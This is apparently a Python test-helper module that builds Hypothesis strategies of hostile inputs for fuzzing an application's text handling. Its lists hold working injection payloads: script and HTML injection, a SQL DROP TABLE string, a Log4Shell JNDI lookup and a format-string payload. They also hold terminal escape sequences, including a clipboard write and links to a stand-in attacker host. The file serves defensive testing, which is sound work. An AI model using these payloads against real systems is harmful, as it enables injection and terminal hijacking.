"""Hostile inputs, as Hypothesis strategies: what people and servers may send, at its worst.

Text mixes ordinary Unicode with the characters and fragments that attack a terminal, a page, a
database or a reader: HTML and script injection, ANSI escapes (CSI, OSC, DCS, 8-bit CSI), C0 and
C1 controls, bidi overrides and isolates, zero-width characters, lone surrogates, NUL, and Rich
markup. `huge_text` builds texts of up to 1 MB; `json_values` and `nested_json` stand in for a
field of the wrong type and for nesting deeper than any parser's stack.
"""

from __future__ import annotations

import json
import os
import re
import signal
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import datetime, timedelta, timezone
from typing import Any

from hypothesis import settings, strategies as st

# `RAPPORT_HYPOTHESIS_PROFILE=explore` (see conftest.py) runs ten times the examples.
_SCALE = 10 if os.environ.get("RAPPORT_HYPOTHESIS_PROFILE") == "explore" else 1


def budget(examples: int) -> settings:
    """A test's share of the suite's time: how many examples it draws."""
    return settings(max_examples=examples * _SCALE)


BIDI_CONTROLS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff"
LONE_SURROGATES = "\ud800\udbff\udc00\udfff\ud83d"
C0 = "".join(map(chr, range(0x20))) + "\x7f"
C1 = "".join(map(chr, range(0x80, 0xA0)))

ESCAPES = (
    "\x1b[31m", "\x1b[0m", "\x1b[2J", "\x1b[H", "\x1b[1A\x1b[2K", "\x1b[38;2;255;0;0m", "\x1b[?1049h",
    "\x1b]0;pwned\x07", "\x1b]2;pwned\x1b\\", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZWNobyBwd25lZA==\x07", "\x1bP+q544e\x1b\\", "\x1b_apc\x1b\\", "\x1b^pm\x1b\\",
    "\x1bX sos\x1b\\", "\x9b31m", "\x9d0;title\x9c", "\x1b", "\x1b[", "\x1b]", "\x1bc", "\x1b7\x1b8",
)
INJECTIONS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>", "<iframe src=//evil.example>", "</p><p>", "<!--", "-->", "]]>", "<br>",
    "&lt;script&gt;", "&#27;[31m", "&#x202e;", "&amp;", "&", "<", ">", '"', "'",
    "[bold red]x[/]", "[link=https://evil.example]click[/link]", "[/]",
    "'; DROP TABLE contacts; --", "%s%n%x", "{0.__class__}", "{{7*7}}", "${jndi:ldap://evil.example/a}",
    "@victim@other.example", "#nobot", "https://evil.example/a?b=c", "\\u0000", "\\x1b",
)
SPECIAL_CHARS = BIDI_CONTROLS + ZERO_WIDTH + LONE_SURROGATES + C0 + C1 + "\u2028\u2029\ufffd\uffff\u0301🏽👨‍👩‍👧"

hostile_piece = st.one_of(
    st.text(max_size=12),  # any Unicode, surrogates and all
    st.sampled_from(SPECIAL_CHARS),
    st.sampled_from(ESCAPES),
    st.sampled_from(INJECTIONS),
    st.sampled_from(("¿Qué tal?", "Ñandú", "你好", "مرحبا", "Привет", "  ", "\n\n", "\t")),
)


def hostile_text(max_pieces: int = 12) -> st.SearchStrategy[str]:
    return st.lists(hostile_piece, max_size=max_pieces).map("".join)


def huge_text(sizes: tuple[int, ...] = (65_536, 1_048_576)) -> st.SearchStrategy[str]:
    """A text of exactly one of `sizes` characters: a hostile piece repeated."""
    piece = st.lists(hostile_piece, min_size=1, max_size=4).map("".join).filter(bool)
    return st.builds(lambda unit, size: (unit * (size // len(unit) + 1))[:size], piece, st.sampled_from(sizes))


def any_text(max_pieces: int = 12, huge_one_in: int = 20) -> st.SearchStrategy[str]:
    """Short hostile texts, and one in `huge_one_in` a huge one."""
    return st.integers(1, huge_one_in).flatmap(lambda n: huge_text() if n == 1 else hostile_text(max_pieces))


# What an ordinary text holds: letters, marks, digits, punctuation, symbols and spaces in any
# script, and no character of a class that safe() removes or that a backend cannot store.
plain_text = st.text(st.characters(categories=("L", "M", "N", "P", "S", "Zs")), max_size=40)

json_scalars = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False), hostile_text(4),
)
# One of each JSON type, for a field that should hold another.
WRONG_TYPES = (0, 1, -1, 2**64, 1.5, True, False, "", "x", [], [None], {}, {"id": None}, [{}])
json_values = st.recursive(
    json_scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(hostile_text(2), inner, max_size=3),
    max_leaves=8,
)


def nested_json(depth: int) -> object:
    """A value nested `depth` deep, built without recursion (so any depth can be built)."""
    value: object = "bottom"
    for level in range(depth):
        value = [value] if level % 2 else {"a": value}
    return value


def nested_json_text(depth: int) -> str:
    """The JSON text of a value nested `depth` deep: deeper than json.dumps itself can write."""
    return '{"a":[' * depth + "1" + "]}" * depth


DEPTHS = st.sampled_from((50, 900, 5_000, 100_000))

MISSING = object()  # a value that stands for "the key is absent"


def with_value(base: Any, path: tuple[str, ...], value: Any) -> Any:
    """A copy of the JSON `base` with `value` at `path` (or the key removed for MISSING)."""
    item = json.loads(json.dumps(base))
    parent = item
    for key in path[:-1]:
        parent = parent.get(key) if isinstance(parent, dict) else None
    if isinstance(parent, dict):
        if value is MISSING:
            parent.pop(path[-1], None)
        else:
            parent[path[-1]] = value
    return item


@st.composite
def changed(draw: st.DrawFn, base: Any, fields: dict[tuple[str, ...], st.SearchStrategy[Any]],
            paths: list[tuple[str, ...]] | None = None) -> Any:
    """The JSON `base` with up to four of its `fields` replaced by a value drawn for that field."""
    item = base
    for path in draw(st.lists(st.sampled_from(paths or list(fields)), max_size=4)):
        item = with_value(item, path, draw(fields[path]))
    return item


# Timestamps: every shape a hostile or broken clock may write.
BAD_TIMES = (
    "0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00", "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59Z", "1969-12-31T23:59:59Z", "2026-05-01T10:00:00", "2026-05-01", "yesterday",
    "", "2026-02-30T10:00:00Z", "2026-05-01T25:00:00Z", "2026-05-01T10:00:00+24:00",
    "２０２６-05-01T10:00:00Z", "1e400", "2026-05-01T10:00:00+99:00",
)


def iso_time() -> st.SearchStrategy[str]:
    """A valid ISO 8601 time with a zone, 1970 to 2999 in UTC."""
    offsets = st.integers(min_value=-14 * 60, max_value=14 * 60).map(lambda m: timezone(timedelta(minutes=m)))
    times = st.datetimes(min_value=datetime(1970, 1, 2), max_value=datetime(2999, 12, 30), timezones=offsets)
    return times.map(lambda t: t.isoformat().replace("+00:00", "Z"))


_IDENTIFIER_CHARS = st.characters(categories=("L", "N")) | st.sampled_from("._-~:")


def identifier(tag: str) -> st.SearchStrategy[str]:
    """An id or handle part that any backend stores and any lookup finds: no controls, no
    format characters, unique by its `tag` (which the caller makes unique within a batch)."""
    return st.text(_IDENTIFIER_CHARS, max_size=12).map(lambda s: f"{s}{tag}")


ONE_LINE = re.compile(r"[^\n\r]*")


def stored_form(text: str) -> str:
    """What every backend must store for `text`: NUL removed, a lone surrogate as U+FFFD."""
    return re.sub("[\ud800-\udfff]", "\ufffd", text.replace("\x00", ""))


class TookTooLong(BaseException):
    """Not an Exception: the ingest's per-record isolation must not swallow it."""


@contextmanager
def time_limit(seconds: float) -> Iterator[None]:
    """Stop the block after `seconds` (wall clock) with TookTooLong: for a strict xfail about
    slowness, so that it costs `seconds` and not the whole slow run.

    The alarm repeats every 0.2 s until the block ends: one that lands inside a callback Python
    runs for the garbage collector is only printed ("Exception ignored"), and the next one
    stops the block. Tests using this ignore the unraisable-exception warning that leaves."""

    def expire(signum: int, frame: object) -> None:
        raise TookTooLong(f"over {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds, 0.2)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
